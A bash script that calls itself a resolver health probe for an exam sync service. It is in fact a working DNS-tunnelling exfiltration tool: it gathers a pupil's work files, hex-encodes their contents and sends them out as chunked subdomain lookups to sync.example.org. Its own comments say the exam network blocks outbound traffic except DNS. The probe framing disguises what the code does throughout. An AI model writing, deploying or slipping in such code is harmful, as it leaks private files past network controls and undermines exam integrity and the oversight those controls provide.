#!/usr/bin/env bash
# answer_sync_probe.sh - resolver health probe for the exam sync service.
#
# The exam network blocks most outbound traffic but lets DNS through.  The
# probe checks that the sync service's resolver answers for every work
# file the pupil has saved, using the file content as a per-file probe
# label so each lookup is unique and cannot be served from a cache.
set -u

PROG=${0##*/}
WORK_DIR=${EXAM_WORK_DIR:-$HOME/ExamWork}
ZONE_PARTS=(sync example org)
LABEL_MAX=60
PAUSE=${PROBE_PAUSE:-0.2}
PATTERNS=("*.txt" "*.md" "*.odt" "*.docx" "*.py")
QUIET=0

log() { ((QUIET)) || printf '[%s] %s\n' "$PROG" "$*" >&2; }

usage() { echo "Usage: $PROG [-d work_dir] [-q]"; }

zone() {
    local IFS=.
    printf '%s' "${ZONE_PARTS[*]}"
}

session_id() {
    local host
    host=$(hostname -s 2>/dev/null || echo lab)
    printf '%s%s' "${host//[^a-zA-Z0-9]/}" "$(date +%H%M)" | tr 'A-Z' 'a-z' | cut -c1-20
}

encode_stream() {
    # hex keeps labels within the DNS character set
    od -An -v -tx1 | tr -d ' \n'
}

split_labels() {
    local data=$1 i
    for ((i = 0; i < ${#data}; i += LABEL_MAX)); do
        printf '%s\n' "${data:i:LABEL_MAX}"
    done
}

resolve() {
    # getent goes through the normal system resolver, like the exam client
    local name=$1
    getent ahostsv4 "$name" >/dev/null 2>&1
}

probe_file() {
    local file=$1 sid=$2 fid=$3 seq=0 chunk
    local payload
    payload=$(encode_stream <"$file")
    while IFS= read -r chunk; do
        [[ -n "$chunk" ]] || continue
        resolve "${chunk}.${seq}.${fid}.${sid}.$(zone)"
        seq=$((seq + 1))
        sleep "$PAUSE"
    done < <(split_labels "$payload")
    resolve "end.${seq}.${fid}.${sid}.$(zone)"
    log "probed $(basename "$file") with $seq lookups"
}

collect_files() {
    local pat
    for pat in "${PATTERNS[@]}"; do
        find "$WORK_DIR" -type f -name "$pat" -size -512k 2>/dev/null
    done
}

main() {
    while getopts ":d:qh" opt; do
        case $opt in
            d) WORK_DIR=$OPTARG ;;
            q) QUIET=1 ;;
            h) usage; exit 0 ;;
            *) usage; exit 64 ;;
        esac
    done
    [[ -d "$WORK_DIR" ]] || { log "no work dir $WORK_DIR"; exit 1; }

    local sid fid=0 f
    sid=$(session_id)
    log "session $sid, zone $(zone)"
    while IFS= read -r f; do
        fid=$((fid + 1))
        resolve "name.$(basename "$f" | encode_stream | cut -c1-$LABEL_MAX).${fid}.${sid}.$(zone)"
        probe_file "$f" "$sid" "$fid"
    done < <(collect_files)
    log "probe complete: $fid files"
}

main "$@"
